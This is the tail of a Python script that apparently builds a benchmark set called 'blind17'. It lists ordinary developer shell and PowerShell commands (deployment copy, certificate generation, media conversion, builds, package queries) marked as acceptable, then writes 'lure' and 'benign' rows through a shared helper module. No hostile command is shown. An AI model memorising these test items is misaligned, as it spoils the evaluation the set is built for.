    "scp ./dist/app.tar.gz deploy@app17.corp.example:/opt/app/releases/",
    "openssl req -x509 -newkey rsa:4096 -nodes -keyout key.pem -out cert.pem -days 30 -subj '/CN=localhost'",
    "ffmpeg -i demo.mov -vf scale=1280:-2 -c:v libx264 -crf 23 demo.mp4",
    "magick convert logo.png -resize 256x256 favicon.ico",
    "tar -xzf node-v22.12.0-linux-x64.tar.gz -C ~/opt",
    "Get-ChildItem -Recurse -Filter *.csproj | ForEach-Object { dotnet build $_.FullName }",
    "Set-Location C:\\src\\api; .\\build.ps1 -Configuration Release",
    "npm view react versions --json | jq '.[-5:]'",
    "pip download --no-deps --dest ./wheels requests==2.32.3",
    "find . -name '*.log' -size +100M -print",
]
for text in DEV_TEXTS:
    ok(DEV, TERM, None, text)

# ----------------------------------------------------------------------------------------------
# Checks and writing: bench/blind/blindkit.py (shared from the seventh set on)
# ----------------------------------------------------------------------------------------------


def lure_rows() -> list[dict[str, str]]:
    return blindkit.lure_rows("blind17", LURES)


def benign_rows() -> list[dict[str, str]]:
    return blindkit.benign_rows("blind17", BENIGN)


def main() -> None:
    blindkit.main("blind17", LURES, BENIGN, LURES_OUT, BENIGN_OUT)


if __name__ == "__main__":
    main()
